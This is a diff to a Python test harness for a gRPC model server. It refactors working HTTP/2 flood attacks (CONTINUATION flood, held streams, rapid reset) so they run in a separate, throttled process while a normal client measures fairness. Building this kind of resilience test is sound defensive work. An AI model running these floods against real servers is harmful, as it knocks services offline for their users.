@@ -14,20 +14,24 @@ tests/e2e/test_grpc_fairness.py and tests/e2e/test_front_end_floods.py.
 from __future__ import annotations
 
 import collections
+import functools
+import multiprocessing
 import socket
 import threading
 import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
 
-import grpc
 import h2.config
 import h2.connection
 import h2.events
 import h2.exceptions
 import hpack
 from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
-from tensorflow_serving.apis import predict_pb2, prediction_service_pb2_grpc
+
+if TYPE_CHECKING:  # grpc and the stubs only where the normal client runs, not in the attacking process
+    from tensorflow_serving.apis import predict_pb2
 
 ATTACKER = "127.0.0.2"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -83,11 +87,13 @@ def rapid_reset(target: str, source: str, stop: threading.Event, token: str | No
 
 
 def continuation(target: str, source: str, stop: threading.Event, token: str | None) -> None:
-    """A HEADERS frame that does not end its block, then CONTINUATION frames of junk headers until `stop`."""
+    """A HEADERS frame that does not end its block, then CONTINUATION frames of junk headers until `stop`: 8 frames
+    of 14 KiB every 10 ms (11 MiB/s), so that on a small test machine the attacker does not simply take the
+    server's cores."""
     sock, encoder = raw(target, source), hpack.Encoder()
     sock.sendall(HeadersFrame(1, encoder.encode(grpc_headers(target, token))).serialize())
     junk = ContinuationFrame(1, hpack.Encoder().encode([(f"x-junk-{i}", "j" * 200) for i in range(70)])).serialize()
-    while not stop.is_set():
+    while not stop.wait(0.01):
         sock.sendall(junk * 8)
     sock.close()
 
@@ -126,43 +132,45 @@ def held_streams(streams: int) -> Callable[[str, str, threading.Event, str | Non
     """Up to `streams` calls on one connection (as many as the server's MAX_CONCURRENT_STREAMS allows), each kept
     alive by an empty DATA frame every 0.5 s and never finishing its message; each call the server ends is opened
     again, until `stop`."""
-    def attack(target: str, source: str, stop: threading.Event, token: str | None) -> None:
-        sock = connect(target, source)
-        h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
-        h2c.initiate_connection()
-        sock.sendall(h2c.data_to_send())
-        sock.settimeout(0.1)
-        held: set[int] = set()
-        try:
-            while not stop.is_set():
-                while len(held) < streams:
-                    try:
-                        stream = h2c.get_next_available_stream_id()
-                        h2c.send_headers(stream, grpc_headers(target, token))
-                    except h2.exceptions.TooManyStreamsError:
-                        break
-                    h2c.send_data(stream, b"\x00\x00\x00\x00\x10")  # a 16-byte message declared, none of it sent
-                    held.add(stream)
-                for stream in held:
-                    h2c.send_data(stream, b"")
+    return functools.partial(_held_streams, streams)
+
+
+def _held_streams(streams: int, target: str, source: str, stop: threading.Event, token: str | None) -> None:
+    sock = connect(target, source)
+    h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    h2c.initiate_connection()
+    sock.sendall(h2c.data_to_send())
+    sock.settimeout(0.1)
+    held: set[int] = set()
+    try:
+        while not stop.is_set():
+            while len(held) < streams:
+                try:
+                    stream = h2c.get_next_available_stream_id()
+                    h2c.send_headers(stream, grpc_headers(target, token))
+                except h2.exceptions.TooManyStreamsError:
+                    break
+                h2c.send_data(stream, b"\x00\x00\x00\x00\x10")  # a 16-byte message declared, none of it sent
+                held.add(stream)
+            for stream in held:
+                h2c.send_data(stream, b"")
+            sock.sendall(h2c.data_to_send())
+            until = time.monotonic() + 0.5
+            while time.monotonic() < until and not stop.is_set():
+                try:
+                    data = sock.recv(1 << 16)
+                except TimeoutError:
+                    continue
+                if not data:
+                    return
+                for event in h2c.receive_data(data):
+                    if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
+                        held.discard(event.stream_id)
                 sock.sendall(h2c.data_to_send())
-                until = time.monotonic() + 0.5
-                while time.monotonic() < until and not stop.is_set():
-                    try:
-                        data = sock.recv(1 << 16)
-                    except TimeoutError:
-                        continue
-                    if not data:
-                        return
-                    for event in h2c.receive_data(data):
-                        if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
-                            held.discard(event.stream_id)
-                    sock.sendall(h2c.data_to_send())
-        except (OSError, h2.exceptions.ProtocolError):
-            return
-        finally:
-            sock.close()
-    return attack
+    except (OSError, h2.exceptions.ProtocolError):
+        return
+    finally:
+        sock.close()
 
 
 ATTACKS: dict[str, tuple[Callable[[str, str, threading.Event, str | None], None], int]] = {
@@ -239,6 +247,9 @@ class Normal(Client):
 
     def __init__(self, target: str, request: predict_pb2.PredictRequest, token: str | None = None,
                  every_s: float = 0.05, deadline_s: float = 2.0) -> None:
+        import grpc
+        from tensorflow_serving.apis import prediction_service_pb2_grpc
+
         super().__init__(every_s, deadline_s)
         self.channel = grpc.insecure_channel(target, options=[("grpc.max_receive_message_length", 64 << 20)])
         self.stub = prediction_service_pb2_grpc.PredictionServiceStub(self.channel)
@@ -246,6 +257,8 @@ class Normal(Client):
         self.metadata = [("authorization", f"Bearer {token}")] if token else None
 
     def call(self) -> tuple[str, float]:
+        import grpc
+
         started = time.monotonic()
         try:
             self.stub.Predict(self.request, timeout=self.deadline_s, metadata=self.metadata)
@@ -283,24 +296,40 @@ class NormalRest(Client):
 
 
 class Attack:
-    """`connections` connections of one attack from `source`, each on its own thread, until `end`."""
+    """`connections` connections of one attack from `source`, each on its own thread, until `end`: in a process of
+    their own, so that the attacker's Python never holds up the measuring client's (in one process, 64 connections
+    of held streams delayed a normal client's calls by a second and had some cancelled)."""
 
     def __init__(self, target: str, attack: Callable[[str, str, threading.Event, str | None], None],
                  connections: int, source: str = ATTACKER, token: str | None = None) -> None:
-        self.stop = threading.Event()
-        self.threads = [threading.Thread(target=self._run, args=(attack, target, source, token), daemon=True)
-                        for _ in range(connections)]
-        for thread in self.threads:
-            thread.start()
-
-    def _run(self, attack: Callable[[str, str, threading.Event, str | None], None], target: str, source: str,
-             token: str | None) -> None:
-        try:
-            attack(target, source, self.stop, token)
-        except OSError:  # refused or cut by the server
-            pass
+        context = multiprocessing.get_context("spawn")
+        self.stop, ready = context.Event(), context.Event()
+        self.process = context.Process(target=_attacker, args=(target, attack, connections, source, token, self.stop,
+                                                               ready), daemon=True)
+        self.process.start()
+        ready.wait(60)
 
     def end(self) -> None:
         self.stop.set()
-        for thread in self.threads:
-            thread.join(10)
+        self.process.join(20)
+        if self.process.is_alive():
+            self.process.kill()
+            self.process.join()
+
+
+def _attacker(target: str, attack: Callable[[str, str, threading.Event, str | None], None], connections: int,
+              source: str, token: str | None, stop: threading.Event, ready: threading.Event) -> None:
+    """The attacking process: each connection on its own thread; `ready` once all have started."""
+    def run() -> None:
+        try:
+            attack(target, source, stop, token)
+        except OSError:  # refused or cut by the server
+            pass
+
+    threads = [threading.Thread(target=run, daemon=True) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    stop.wait(0.5)
+    ready.set()
+    for thread in threads:
+        thread.join(10)
